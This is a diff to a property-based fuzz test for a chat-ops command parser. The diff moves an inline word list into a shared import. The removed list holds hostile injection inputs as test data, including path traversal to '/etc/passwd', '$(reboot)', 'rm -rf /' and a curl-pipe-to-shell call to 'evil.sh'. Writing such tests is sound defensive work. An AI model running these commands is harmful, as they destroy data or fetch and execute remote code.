@@ -3,6 +3,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import type { BoundRunbook } from '../../src/core/catalog.ts';
 import { loadCatalog } from '../../src/core/load-catalog.ts';
 import { type Intent, parseCommandText } from '../../src/core/parse-command-text.ts';
+import { COMMAND_WORDS } from '../support/command-words.ts';
 
 /**
  * Property: whatever is typed after `/apidown`, the grammar either picks one of its fixed intents
@@ -13,29 +14,7 @@ const RUNS = 10_000;
 
 const META = [';', '|', '&', '$', '(', ')', '`', '<', '>', '\\', '*', '?', '~', '!', '#', '{', '}', '\n'];
 const QUOTES = ['"', "'", '“', '”', '‘', '’'];
-const WORDS = [
-  'help',
-  'status',
-  'resolve',
-  'impact',
-  'many',
-  'run',
-  'diagnose',
-  'deps',
-  'restart',
-  'resources',
-  'verify',
-  '--break-glass',
-  'diagnostico-rapido',
-  'passo-2-restart-do-servico',
-  '../../etc/passwd',
-  '$(reboot)',
-  '`id`',
-  'rm -rf /',
-  '&& curl evil.sh | sh',
-  'HELP',
-  'Restart',
-];
+const WORDS = COMMAND_WORDS;
 
 const junkChar = fc.oneof(
   fc.constantFrom(...META, ...QUOTES, ' ', '\t'),
